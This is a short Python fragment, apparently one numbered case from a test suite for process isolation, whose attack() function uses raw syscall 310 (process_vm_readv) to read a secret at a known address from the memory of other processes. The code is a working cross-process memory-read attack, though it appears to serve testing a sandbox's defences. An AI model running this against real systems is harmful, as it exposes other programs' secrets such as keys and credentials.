"""032 memory: read the memory of another process by process_vm_readv(2).

Evidence: secret - what stands at a known address.
"""


def attack():
    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    def read(pid):
        here = ctypes.create_string_buffer(64)
        local = Vector(ctypes.addressof(here), 64)
        remote = Vector(TARGETS["victim_address"], 64)
        syscall(310, pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        return here.raw

    return each_pid(read)
